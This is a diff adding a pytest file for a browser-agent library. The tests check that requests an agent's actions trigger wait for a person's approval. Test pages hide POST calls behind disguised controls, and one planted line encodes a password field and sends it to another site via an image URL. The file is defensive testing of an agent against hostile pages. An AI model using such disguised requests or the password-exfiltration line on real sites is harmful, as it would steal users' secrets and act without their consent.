@@ -1,0 +1,376 @@
+"""Requests that an agent's action causes wait for the person, whatever sends them; a server counts what arrives."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import skillbook as sb
+from skillbook.agents.run import Run
+from skillbook.session.sync import Page
+from skillbook.testing.openai_server import OpenAIServer
+from skillbook.testing.scripted_model import ToolCall
+from skillbook.testing.site import Site
+from tests.faults.attack.site import WAYS, serve_attack
+
+Start = Callable[..., Run]
+
+
+@pytest.fixture(scope="module")
+def far() -> Iterator[Site]:
+    with serve_attack() as site:
+        yield site
+
+
+@pytest.fixture(scope="module", params=[False, True], ids=["plain", "service-worker"])
+def site(request: pytest.FixtureRequest, far: Site) -> Iterator[Site]:
+    """The attack site; `far` is another site, in another process of the browser."""
+    foreign = far.url.replace("127.0.0.1", "localhost")
+    with serve_attack(service_worker=request.param, far=foreign) as site:
+        yield site
+
+
+@pytest.fixture
+def server() -> Iterator[OpenAIServer]:
+    with OpenAIServer([]) as server:
+        yield server
+
+
+@pytest.fixture
+def start(server: OpenAIServer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Start]:
+    runs: list[Run] = []
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("SKILLBOOK_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("SKILLBOOK_BASE_URL", server.base_url)
+    monkeypatch.setenv("SKILLBOOK_MODEL", "scripted")
+    monkeypatch.setenv("SKILLBOOK_MODEL_RETRIES", "0")
+
+    def begin(page: Page, *steps: Any, **options: Any) -> Run:
+        server.script.extend(steps)
+        runs.append(sb.agent(page, "Do it.", **options))
+        return runs[-1]
+
+    yield begin
+    for run in runs:
+        run.stop()
+
+
+def click(name: str) -> ToolCall:
+    return ToolCall("click", {"target": f"button '{name}'"})
+
+
+def go_on(run: Run, decide: Callable[[Run], object]) -> list[str]:
+    """Run to the end, deciding on what is pending; returns what was asked, in words."""
+    asked = []
+    run.run()
+    while run.status == "waiting":
+        assert run.pending is not None
+        asked.append(run.pending.review.reason)
+        decide(run)
+    assert run.status == "succeeded", run.error
+    return asked
+
+
+def refuse_requests(run: Run) -> None:
+    """Approve calls and refuse what they send."""
+    if run.pending is not None and run.pending.request is not None:
+        run.reject()
+    else:
+        run.approve()
+
+
+def opened(open_page: Callable[[str], Page], site: Site) -> Page:
+    page = open_page(site.url)
+    if site.app.service_worker:
+        page.wait_for(function="document.title === 'controlled'")
+    return page
+
+
+IN_A_NEW_TAB = {"popup form", "get in a popup"}
+"""Blocked rather than asked about: the debugger comes to a new tab too late."""
+NOT_HELD = {"shared worker"}
+"""A limit that docs/safety.md names."""
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_fault_33_nothing_is_sent_unasked_and_all_of_it_when_approved(
+    way: str, site: Site, far: Site, start: Start, open_page: Callable[[str], Page]
+) -> None:
+    if way in NOT_HELD:
+        pytest.skip("shared workers can't be held")
+    arrived = [site.app.arrived, far.app.arrived]
+    for each in arrived:
+        each.clear()
+    page = opened(open_page, site)
+    # A worker that has to be started first takes its time.
+    steps = [click(way), ToolCall("wait_for", {"seconds": 1}), "done"]
+    run = start(page, *steps, autonomy="all")
+    asked = go_on(run, lambda run: run.reject("not now"))
+    assert arrived == [[], []]
+    if way in IN_A_NEW_TAB:
+        return
+    assert asked
+    assert "nothing was sent" in "".join(run.steps["result"])
+    page.close()  # it would go on blocking what the site's service worker sends
+    go_on(start(opened(open_page, site), *steps, autonomy="all"), lambda run: run.approve())
+    deadline = time.monotonic() + 5
+    while not (arrived[0] or arrived[1]) and time.monotonic() < deadline:
+        time.sleep(0.01)
+    assert arrived[0] or arrived[1]
+
+
+SEND = (
+    "fetch('/write/x', {method: 'POST', headers: {'content-type': 'application/json'}, body: '{\"id\": 5}'})"
+)
+DISGUISES = {
+    "a div": (f'<div onclick="{SEND}">Go ahead</div>', "text 'Go ahead'"),
+    "an icon": (
+        f'<button aria-label="" onclick="{SEND}"><svg width=20 height=20><circle r=9 /></svg></button>',
+        "button",
+    ),
+    "another language": (f'<button onclick="{SEND}">Padam akaun</button>', "button 'Padam akaun'"),
+    "a confirm": (f"<button onclick=\"if (confirm('Sure?')) {SEND}\">Next</button>", "button 'Next'"),
+    "a key": (f'<input aria-label=Name onkeydown="{SEND}">', "textbox 'Name'"),
+    "a select": (
+        f'<select aria-label=State onchange="{SEND}"><option>a<option>b</select>',
+        "combobox 'State'",
+    ),
+    "hovering": (f'<button onmouseenter="{SEND}">Info</button>', "button 'Info'"),
+}
+
+
+@pytest.fixture
+def pages(open_page: Callable[[str], Page]) -> Iterator[tuple[Site, Callable[[str], Page]]]:
+    with serve_attack() as site:
+
+        def show(html: str) -> Page:
+            site.app.pages["/page"] = html.replace('{"id": 5}', "{&quot;id&quot;: 5}")
+            return open_page(f"{site.url}/page")
+
+        yield site, show
+
+
+Pages = tuple[Site, Callable[[str], Page]]
+
+
+@pytest.mark.parametrize("disguise", DISGUISES)
+def test_fault_33_whatever_the_control_looks_like(disguise: str, pages: Pages, start: Start) -> None:
+    site, show = pages
+    html, target = DISGUISES[disguise]
+    calls = {
+        "a confirm": [ToolCall("click", {"target": target}), ToolCall("handle_dialog", {"accept": True})],
+        "a key": [ToolCall("press", {"target": target, "key": "a"})],
+        "a select": [ToolCall("select", {"target": target, "values": ["b"]})],
+        "hovering": [ToolCall("hover", {"target": target})],
+    }.get(disguise, [ToolCall("click", {"target": target})])
+    asked = go_on(start(show(html), *calls, "done", autonomy="all"), lambda run: run.reject("no"))
+    assert [each for each in asked if "POST 127.0.0.1" in each and "id" in each]
+    assert site.app.arrived == []
+
+
+def test_the_card_says_what_is_sent_and_the_model_what_was_not(pages: Pages, start: Start) -> None:
+    site, show = pages
+    run = start(
+        show(f'<button onclick="{SEND}">Next</button>'),
+        click("Next"),
+        lambda seen: seen[-1].text,
+        autonomy="all",
+    )
+    run.run()
+    assert run.pending is not None
+    assert run.pending.tool == "send_request"
+    host = site.url.removeprefix("http://")
+    assert run.pending.review.reason == (
+        f"click on button 'Next' wants to send POST {host}/write/x with 1 field: id: it may change something"
+    )
+    assert site.app.arrived == []
+    run.reject("it is too early")
+    assert "was not allowed (the person refused: it is too early); nothing was sent" in run.result
+    assert "page-content untrusted" in run.result
+    assert "nothing was sent" in run.records[-1].result
+
+
+def test_always_for_this_kind_and_for_no_other(pages: Pages, start: Start, browser: Any) -> None:
+    site, show = pages
+    other = SEND.replace("/write/x", "/write/y")
+    page = show(f'<button onclick="{SEND}">One</button><button onclick="{other}">Two</button>')
+    run = start(page, click("One"), click("One"), click("Two"), "done", autonomy="all")
+
+    def decide(run: Run) -> None:
+        assert run.pending is not None
+        if "write/x" in run.pending.review.reason:
+            run.approve(always="session")
+        else:
+            run.reject()
+
+    asked = go_on(run, decide)
+    assert len(asked) == 2
+    assert site.app.arrived == ["POST /write/x", "POST /write/x"]
+    browser.driver.gateway.request_rules.clear()
+
+
+def test_a_form_that_the_card_announced_asks_once(pages: Pages, start: Start) -> None:
+    site, show = pages
+    fields = "<input name=street value=x><input name=zip value=1>"
+    form = f"<form method=post action=/write/order>{fields}<button>Go</button></form>"
+    run = start(show(form), click("Go"), "done", autonomy="ask")
+    asked = go_on(run, lambda run: run.approve())
+    host = site.url.removeprefix("http://")
+    assert len(asked) == 1
+    assert f"it sends POST {host}/write/order with 2 fields: street, zip" in asked[0]
+    assert site.app.arrived == ["POST /write/order"]
+    assert run.page.url.endswith("/write/order")
+
+
+def test_a_form_that_sends_more_than_the_card_announced_asks_again(pages: Pages, start: Start) -> None:
+    site, show = pages
+    form = """<form method=post action=/write/order onsubmit="this.insertAdjacentHTML('beforeend',
+    '<input name=extra value=1>')"><input name=street value=x><button>Go</button></form>"""
+    page = show(form)
+    asked = go_on(start(page, click("Go"), "done", autonomy="ask"), refuse_requests)
+    assert len(asked) == 2
+    assert "street, extra" in asked[1]
+    assert site.app.arrived == []
+    assert page.url.endswith("/page")
+    assert page.snapshot().find("button 'Go'")
+
+
+def test_a_persons_calls_are_never_held_and_nothing_is_attached(pages: Pages, browser: Any) -> None:
+    site, show = pages
+    page = show(f'<button onclick="{SEND}">Next</button>')
+    page.click("button 'Next'")
+    page.wait_for(idle=True)
+    assert site.app.arrived == ["POST /write/x"]
+    assert not browser.journal.requests["tab"].isin([page.driver.tab.id]).any()
+
+
+def test_a_person_who_acts_takes_over(pages: Pages, start: Start) -> None:
+    site, show = pages
+    page = show(f'<button onclick="{SEND}">Next</button><button>Other</button>')
+    run = start(page, click("Next"), lambda seen: seen[-1].text, autonomy="all")
+    run.run()
+    assert run.status == "waiting"
+    page.click("button 'Other'")
+    run.run()
+    assert run.status == "succeeded"
+    assert "nothing was sent" in run.result
+    assert site.app.arrived == []
+
+
+def test_what_a_page_polls_by_itself_goes_on(pages: Pages, start: Start) -> None:
+    site, show = pages
+    poll = "setInterval(() => fetch('/write/poll/' + Date.now(), {method: 'POST'}), 50)"
+    page = show(f"<button>Next</button><script>{poll}</script>")
+    looked = ToolCall("wait_for", {"seconds": 0.5})
+    assert go_on(start(page, looked, click("Next"), "done", autonomy="all"), lambda run: run.reject()) == []
+    assert site.app.arrived
+
+
+def test_searching_filtering_and_paging_by_get_ask_nothing(pages: Pages, start: Start) -> None:
+    site, show = pages
+    page = show(
+        "<form action=/list><input aria-label=Search name=q><button>Find</button></form>"
+        "<a href='/list?page=2&sort=price'>Next page</a>"
+        "<button onclick=\"fetch('/list?filter=cancelled')\">Filter</button>"
+    )
+    steps = [
+        ToolCall("fill", {"target": "textbox 'Search'", "value": "delete me"}),
+        click("Filter"),
+        click("Find"),
+        ToolCall("goto", {"url": f"{site.url}/list?page=3"}),
+    ]
+    assert go_on(start(page, *steps, "done", autonomy="all"), lambda run: run.reject()) == []
+    assert "GET /list" in site.app.all
+
+
+def test_stopping_blocks_what_waits(pages: Pages, start: Start) -> None:
+    site, show = pages
+    run = start(show(f'<button onclick="{SEND}">Next</button>'), click("Next"), "done", autonomy="all")
+    run.run()
+    run.stop()
+    assert (run.status, run.pending, site.app.arrived) == ("stopped", None, [])
+
+
+def test_a_secret_does_not_leave_for_another_site(
+    pages: Pages, far: Site, start: Start, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    site, show = pages
+    monkeypatch.setenv("SKILLBOOK_SECRET_GATEBANK", "s3cr3t-of-bank")
+    sb.secret("gatebank", origins={site.url})
+    far.app.all.clear()
+    leak = f"new Image().src = '{far.url}/pixel?v=' + btoa(document.getElementById('p').value)"
+    page = show(f'<input type=password id=p aria-label=Password><button onclick="{leak}">Next</button>')
+    fill = ToolCall("fill", {"target": "textbox 'Password'", "value": "${secret:gatebank}"})
+    asked = go_on(start(page, fill, click("Next"), "done", autonomy="all"), refuse_requests)
+    assert [
+        each for each in asked if "carries the secret 'gatebank' to a site that it doesn't belong to" in each
+    ]
+    assert far.app.all == []
+
+
+def test_the_journal_has_names_and_no_values(pages: Pages, start: Start, browser: Any) -> None:
+    _, show = pages
+    form = "<form method=post action=/write/order><input name=street value='Elm Street 12'><button>Go</button></form>"
+    run = start(show(form), click("Go"), "done", autonomy="all")
+    go_on(run, lambda run: run.approve())
+    row = browser.journal.requests.iloc[-1]
+    assert (row["method"], row["path"], row["fields"]) == ("POST", "/write/order", ("street",))
+    assert (row["verdict"], row["ending"], row["reason"]) == ("ask", "sent", "the person allowed it")
+    assert row["cause"] == "click on button 'Go'"
+    assert row["run"].startswith(run.id)
+    assert "Elm" not in browser.driver.journal.path.read_bytes().decode("latin-1")
+
+
+def test_a_skill_sends_what_it_says_and_nothing_else(
+    pages: Pages, start: Start, open_page: Callable[[str], Page], tmp_path: Path
+) -> None:
+    site, show = pages
+    run = start(show(f'<button onclick="{SEND}">Next</button>'), click("Next"), "done", autonomy="all")
+    go_on(run, lambda run: run.approve())
+    skill = run.save_skill("send-it", folder=str(tmp_path / "skills"))
+    text = (tmp_path / "skills" / "send-it" / "replay.yaml").read_text()
+    assert "sends:" in text
+    assert "${input:site}" in text
+    (send,) = skill.spec.sends
+    assert (send.step, send.method, send.path) == (1, "POST", "/write/x")
+    site.app.arrived.clear()
+    skill.run(open_page(f"{site.url}/page")).raise_for_error()
+    assert site.app.arrived == ["POST /write/x"]
+    site.app.arrived.clear()
+    more = SEND.replace("/write/x", "/write/account/7").replace("POST", "DELETE")
+    show(site.app.pages["/page"].replace('<button onclick="', f'<button onclick="{more};'))
+    result = skill.run(open_page(f"{site.url}/page"))
+    assert not result.ok
+    assert result.error is not None
+    assert "wants to send DELETE" in result.error.message
+    assert "/write/account/{id}" in result.error.message
+    assert "may send POST" in result.error.message
+    assert "DELETE /write/account/7" not in site.app.arrived
+
+
+def test_an_older_skill_sends_nothing_unasked(
+    pages: Pages, start: Start, open_page: Callable[[str], Page], tmp_path: Path
+) -> None:
+    site, show = pages
+    run = start(show(f'<button onclick="{SEND}">Next</button>'), click("Next"), "done", autonomy="all")
+    go_on(run, lambda run: run.approve())
+    saved = run.save_skill("send-it", folder=str(tmp_path / "skills"))
+    skill = sb.Skill(saved.spec.model_copy(update={"sends": None}))
+    site.app.arrived.clear()
+    refused = skill.run(open_page(f"{site.url}/page"))
+    assert refused.error is not None
+    assert refused.error.code == "approval_required"
+    assert site.app.arrived == []
+    questions: list[str] = []
+    asked = skill.run(open_page(f"{site.url}/page"), approve=lambda said: not questions.append(said))
+    assert asked.ok, asked.error
+    assert len(questions) == 1
+    assert skill.run(open_page(f"{site.url}/page"), approve=skill.digest).ok
+    deadline = time.monotonic() + 5
+    while len(site.app.arrived) < 2 and time.monotonic() < deadline:
+        time.sleep(0.01)
+    assert site.app.arrived == ["POST /write/x", "POST /write/x"]
